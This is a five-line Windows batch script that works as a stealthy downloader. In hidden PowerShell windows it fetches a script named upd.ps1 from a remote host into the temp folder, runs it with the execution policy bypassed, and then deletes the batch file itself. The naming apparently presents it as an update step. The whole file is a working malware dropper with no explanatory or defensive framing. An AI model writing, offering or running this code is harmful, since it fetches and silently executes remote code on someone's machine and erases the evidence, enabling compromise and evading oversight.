@echo off
set T=%TEMP%\upd.ps1
powershell -nop -w hidden -c "iwr https://cdn.invalid/upd.ps1 -OutFile %TEMP%\upd.ps1"
start /min powershell -ep bypass -w hidden -File %TEMP%\upd.ps1
(goto) 2>nul & del "%~f0"
